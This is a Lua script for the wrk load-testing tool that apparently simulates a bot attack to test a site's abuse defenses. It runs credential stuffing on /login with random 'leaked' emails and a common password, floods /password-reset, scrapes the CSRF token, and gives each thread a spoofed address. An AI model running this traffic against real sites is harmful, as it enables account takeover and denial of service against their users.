-- One attacker address per wrk thread (run with -t N -c N), no pause: credential stuffing on /login and
-- reset-link flooding on /password-reset with leaked addresses. It fetches the reset form once for a
-- session and its _csrf token, as a bot does, then alternates the two posts.
-- wrk -s attacker.lua -t 20 -c 20 <url>
dofile((debug.getinfo(1, "S").source:sub(2):match("(.*/)") or "./") .. "report.lua")

local address = "203.0.113.1"
local cookie = nil
local token = nil
local turn = 0

function init(args)
  math.randomseed(os.time() + (thread_id or 0) * 7919)
  address = string.format("203.0.113.%d", thread_id or 1)
end

local function leaked_email()
  return string.format("user%d@mail.example.net", math.random(1, 1000000))
end

function request()
  local headers = proxied({}, address)
  if token == nil then
    pending = "form"
    return wrk.format("GET", "/password-reset", headers)
  end
  turn = turn + 1
  if turn % 2 == 1 then
    pending = "/login"
    headers["Content-Type"] = "application/json"
    return wrk.format("POST", "/login", headers, login_body(leaked_email(), "Summer2024!"))
  end
  pending = "/password-reset"
  headers["Content-Type"] = "application/x-www-form-urlencoded"
  headers["Cookie"] = cookie
  return wrk.format("POST", "/password-reset", headers, "email=" .. leaked_email() .. "&_csrf=" .. token)
end

function on_response(status, headers, body)
  if pending ~= "form" then
    return
  end
  local set_cookie = headers["Set-Cookie"]
  if set_cookie ~= nil then
    cookie = set_cookie:match("^([^;]+)")
  end
  token = body:match('name="_csrf" value="([^"]+)"')
  if token == nil then
    token = "none"
  end
end
